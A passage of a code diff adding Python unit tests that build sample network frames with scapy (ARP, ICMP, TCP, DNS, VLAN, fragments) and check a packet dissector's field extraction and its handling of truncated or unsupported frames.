+        from scapy.layers.inet import ICMP, IP, TCP, UDP
+        from scapy.layers.l2 import ARP, Dot1AD, Dot1Q, Ether
+
+        eth = Ether(src='00:00:5e:00:53:01', dst='00:00:5e:00:53:02')
+        ip = IP(src=CLIENT, dst=SERVER)
+        cls.frames = {
+            'arp': eth / ARP(op=2, psrc=CLIENT, pdst=SERVER),
+            'icmp': eth / ip / ICMP(type=8) / b'ping',
+            'tcp': eth / ip / TCP(sport=40000, dport=80, flags='PA', urgptr=3) / b'GET / HTTP/1.0\r\n\r\n',
+            'udp': eth / ip / UDP(sport=40000, dport=53) / DNS(qd=DNSQR(qname='example.org')),
+            'vlan': eth / Dot1Q(vlan=5) / ip / TCP(sport=40000, dport=22, flags='S'),
+            'qinq': eth / Dot1AD(vlan=5) / Dot1Q(vlan=6) / ip / UDP(sport=40000, dport=123),
+            'options': eth / IP(src=CLIENT, dst=SERVER, options=[b'\x01' * 4]) / TCP(flags='A') / b'x',
+            'first_fragment': eth / IP(src=CLIENT, dst=SERVER, flags='MF') / UDP(sport=1, dport=2) / (b'y' * 32),
+        }
+        cls.frames = {name: bytes(packet) for name, packet in cls.frames.items()}
+
+    def fields(self, record):
+        return {name: getattr(record, name) for name in HeaderRecord.__slots__}
+
+    def test_arp(self):
+        record = dissect_frame(self.frames['arp'], 5.0)
+        self.assertEqual((record.proto, record.src, record.dst, record.arp_op, record.timestamp),
+                         (PROTO_ARP, CLIENT, SERVER, 2, 5.0))
+
+    def test_icmp(self):
+        record = dissect_frame(self.frames['icmp'])
+        self.assertEqual((record.proto, record.icmp_type, record.sport, record.dport, record.tcp_flags),
+                         (PROTO_ICMP, 8, 0, 0, None))
+        self.assertEqual(record.payload, b'ping')
+
+    def test_vlan_tags(self):
+        record = dissect_frame(self.frames['vlan'])
+        self.assertEqual((record.proto, record.src, record.dport, record.tcp_flags, record.length),
+                         (PROTO_TCP, CLIENT, 22, 0x02, len(self.frames['vlan'])))
+        record = dissect_frame(self.frames['qinq'])
+        self.assertEqual((record.proto, record.sport, record.dport), (PROTO_UDP, 40000, 123))
+
+    def test_header_fields(self):
+        record = dissect_frame(self.frames['tcp'])
+        self.assertEqual((record.sport, record.dport, record.tcp_flags, record.urgptr), (40000, 80, 0x18, 3))
+        self.assertEqual(record.payload, b'GET / HTTP/1.0\r\n\r\n')
+        self.assertEqual(dissect_frame(self.frames['options']).payload, b'x')
+        self.assertEqual(dissect_frame(self.frames['first_fragment']).wrong_fragment, 1)
+
+    def test_unsupported_and_short_frames(self):
+        from scapy.layers.inet import IP, UDP
+        from scapy.layers.inet6 import IPv6
+        from scapy.layers.l2 import Ether
+
+        eth = Ether(dst='00:00:5e:00:53:02')
+        self.assertIsNone(dissect_frame(bytes(eth / IPv6())))
+        self.assertIsNone(dissect_frame(bytes(eth / IP(src=CLIENT, dst=SERVER, frag=3) / UDP())))  # not the first
+        self.assertIsNone(dissect_frame(bytes(eth / IP(src=CLIENT, dst=SERVER, proto=47))))  # GRE
+        self.assertIsNone(dissect_frame(b''))
+        for name, frame in self.frames.items():
+            headers = len(frame) - len(dissect_frame(frame).payload)
+            if name == 'icmp':
+                headers -= 4  # type, code and checksum are enough
+            for end in range(len(frame)):
+                record = dissect_frame(frame[:end])  # never raises
+                if end < headers:
+                    self.assertIsNone(record, (name, end))
+        # A TCP header that starts but does not fit in the frame
+        self.assertIsNone(dissect_frame(self.frames['tcp'][:14 + 20 + 19]))
+        self.assertIsNone(dissect_frame(self.frames['vlan'][:16]))
+
+    def test_parity_with_scapy_records(self):
+        from scapy.layers.l2 import Ether
+
+        for name, frame in self.frames.items():
+            packet = Ether(frame)
+            packet.time = 12.5
+            self.assertEqual(self.fields(dissect_frame(frame, 12.5)), self.fields(record_from_packet(packet)), name)